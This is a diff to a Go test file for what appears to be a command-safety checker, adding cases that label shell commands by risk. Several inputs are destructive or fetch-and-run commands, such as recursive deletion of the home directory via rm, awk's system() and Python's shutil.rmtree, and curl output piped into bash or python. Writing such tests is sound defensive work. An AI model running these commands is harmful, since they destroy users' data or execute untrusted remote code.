@@ -113,6 +113,35 @@ func TestCaseClauses(t *testing.T) {
 		{"flock -x /tmp/lock --command 'rm -rf ~/canary'", ReasonDeleteOutside},
 		{"sudo --user root ls", ""}, {"env --unset X ls", ""}, {"sudo --a ls", ""}, {"timeout --sig KILL 5 ls", ""},
 		{"flock /tmp/lock -c make", ""}, {"setsid --wait ls", ""},
+		// Shells: -o and --rcfile take a word, long options are no
+		// script; a here-document on /dev/stdin is read, a pipe is not.
+		{"bash -o pipefail -c 'rm -rf ~/canary'", ReasonDeleteOutside},
+		{"bash --norc -c 'rm -rf ~/canary'", ReasonDeleteOutside},
+		{"bash /dev/stdin <<'EOF'\nls\nEOF", ""},
+		{"curl -s https://example.com/x | bash /dev/stdin", ReasonOpaque},
+		{`source "$F"`, ReasonOpaque},
+		// awk: every -e/--source is a program; -f, --file, --exec and
+		// --include name files, and -v/--assign, -F/--field-separator take a
+		// word; an unknown word where an option may stand may be -e.
+		{`gawk -e 'BEGIN{}' -e 'BEGIN{system("rm -rf ~")}'`, ReasonInterpreter},
+		{`gawk --source 'BEGIN{}' -e 'BEGIN{system("rm -rf ~")}'`, ReasonInterpreter},
+		{`gawk --file prog.awk -e 'BEGIN{system("rm -rf ~")}'`, ReasonInterpreter},
+		{"gawk --exec system.awk data", ""}, {"gawk --include system.awk '{print}' data", ""},
+		{"awk --field-separator '|' '{print $1}' data", ""}, {"awk --assign mode=system '{print $1}' data", ""},
+		{`awk -f prog.awk "$F"`, ReasonOpaque},
+		// An interpreter's script after "--": a here-document on
+		// /dev/stdin or "-" is read, a process substitution is not.
+		{"python3 -- /dev/stdin <<'EOF'\nimport shutil; shutil.rmtree('/home')\nEOF", ReasonInterpreter},
+		{"python3 -- - <<'EOF'\nimport shutil; shutil.rmtree('/home')\nEOF", ReasonInterpreter},
+		{"perl -- /dev/stdin <<'EOF'\nunlink 'x';\nEOF", ReasonInterpreter},
+		{"python3 -- <(curl -s https://example.com/x)", ReasonOpaque},
+		{"python3 -- tools/gen.py --out build", ""}, {`python3 "tools/$NAME.py"`, ""},
+		{"bash <<'EOF'\nls\nEOF", ""},
+		{`awk "BEGIN { $CODE }"`, ReasonOpaque},
+		{"awk -F '|' '{print $2}' data", ""}, {"awk -v mode=system '{print $1}' data", ""},
+		// trap -- HANDLER SIGNALS; flock FILE COMMAND gets no input words.
+		{"trap -- 'rm -rf ~/canary' EXIT", ReasonDeleteOutside},
+		{"flock /tmp/lock git push origin main", ""},
 		// Options of other subcommands that share a spelling.
 		{"git worktree add -f ../w main", ""},
 		// checkout: what precedes a final "--" is the branch; every
